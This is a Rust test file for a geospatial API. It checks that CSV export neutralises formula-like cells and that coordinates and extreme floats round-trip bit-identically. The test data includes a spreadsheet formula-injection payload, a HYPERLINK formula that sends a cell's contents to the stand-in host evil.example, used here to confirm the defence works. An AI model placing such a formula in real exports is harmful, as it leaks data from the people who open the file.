//! What leaves the API as data: CSV that spreadsheets cannot run, and numbers that come back
//! exactly as they were sent. On a small collection of its own with hostile text and hard numbers.

use std::sync::{Arc, LazyLock};

use axum::Router;
use axum::body::Body;
use axum::http::Request;
use citygrid::api::{AppState, router};
use citygrid::model::CollectionId;
use citygrid::model::crs::InputCrs;
use citygrid::service::Catalog;
use citygrid::service::import::{ImportOptions, MAX_FEATURE_BYTES, SchemaSource, import_features};
use citygrid::store::{SqliteStore, Store};
use serde_json::{Value, json};

use crate::support::{BASE, Reply, send_to};

struct Fixture {
    runtime: tokio::runtime::Runtime,
    router: Router,
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?q="&A1,"click")"#;
const TRICKY_TEXT: &str = "a, \"quoted\"\nsecond line";
const LON: &str = "113.68581234567891";
const LAT: &str = "34.74712345678901";

static FIXTURE: LazyLock<Fixture> = LazyLock::new(|| {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let catalog = runtime.block_on(async {
        let store: Arc<dyn Store> = Arc::new(SqliteStore::open("sqlite::memory:").await.unwrap());
        let feature = |id: &str, label: &str, level: f64, text: &str| {
            let raw = format!(
                r#"{{"type":"Feature","id":"{id}","geometry":{{"type":"Point","coordinates":[{LON},{LAT}]}},
                    "properties":{{"label":{},"level":{level:?},"text":{},"tiny":5e-324,"huge":1.7976931348623157e308,"sum":0.30000000000000004}}}}"#,
                json!(label),
                json!(text)
            );
            geojson::Feature::from_json_value(serde_json::from_str(&raw).unwrap()).unwrap()
        };
        let features = vec![
            feature("n1", FORMULA, -3.5, TRICKY_TEXT),
            feature("n2", "+1 and -1 and @me", 2.25, "\tleading tab"),
        ];
        let options = ImportOptions {
            collection: CollectionId::parse("notes").unwrap(),
            crs: InputCrs::Wgs84,
            schema: SchemaSource::Infer,
            skip_invalid: false,
            upsert: false,
            max_feature_bytes: MAX_FEATURE_BYTES,
            attribution: None,
            license: None,
        };
        let report = import_features(store.as_ref(), &options, features)
            .await
            .unwrap();
        assert_eq!(report.imported, 2);
        Arc::new(Catalog::load(store).await.unwrap())
    });
    Fixture {
        router: router(AppState::new(catalog, BASE)),
        runtime,
    }
});

fn send(request: Request<Body>) -> Reply {
    send_to(&FIXTURE.runtime, &FIXTURE.router, request)
}

fn search_csv() -> Vec<Vec<String>> {
    let body = json!({"collections": ["notes"], "intersects": {"type": "Polygon",
        "coordinates": [[[113.6, 34.7], [113.8, 34.7], [113.8, 34.8], [113.6, 34.8], [113.6, 34.7]]]}});
    let reply = send(
        Request::post("/search?f=csv")
            .header("content-type", "application/json")
            .body(Body::from(body.to_string()))
            .unwrap(),
    );
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert!(reply.content_type().starts_with("text/csv"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(reply.body.as_slice());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0].iter().position(|c| c == name).unwrap()
}

#[test]
fn csv_text_cells_that_start_like_formulas_are_neutralised_and_numbers_stay_numbers() {
    let mut rows = search_csv();
    assert_eq!(rows.len(), 3, "{rows:?}");
    let (label, level, text) = (
        column(&rows, "label"),
        column(&rows, "level"),
        column(&rows, "text"),
    );
    let id = column(&rows, "id");
    rows[1..].sort_by(|a, b| a[id].cmp(&b[id]));
    assert_eq!(rows[1][label], format!("'{FORMULA}"));
    assert_eq!(rows[2][label], "'+1 and -1 and @me");
    assert_eq!(rows[2][text], "'\tleading tab");
    // Commas, quotes and newlines survive quoting; a negative number is still a number.
    assert_eq!(rows[1][text], TRICKY_TEXT);
    assert_eq!(rows[1][level], "-3.5");
    assert_eq!(rows[2][level], "2.25");
}

#[test]
fn coordinates_and_numbers_read_through_the_api_are_bit_identical_to_those_imported() {
    let reply = send(
        Request::get("/collections/notes/items/n1")
            .body(Body::empty())
            .unwrap(),
    );
    assert_eq!(reply.status, 200, "{}", reply.text());
    let text = reply.text();
    // The text itself carries the shortest form that reads back exactly (ryu writes `e+`).
    for number in [
        LON,
        LAT,
        "5e-324",
        "1.7976931348623157e+308",
        "0.30000000000000004",
    ] {
        assert!(text.contains(number), "{number} not in {text}");
    }
    let feature: Value = reply.json();
    let bits = |v: &Value| v.as_f64().unwrap().to_bits();
    let coordinates = &feature["geometry"]["coordinates"];
    assert_eq!(bits(&coordinates[0]), LON.parse::<f64>().unwrap().to_bits());
    assert_eq!(bits(&coordinates[1]), LAT.parse::<f64>().unwrap().to_bits());
    assert_eq!(bits(&feature["properties"]["tiny"]), 5e-324_f64.to_bits());
    assert_eq!(bits(&feature["properties"]["huge"]), f64::MAX.to_bits());
}
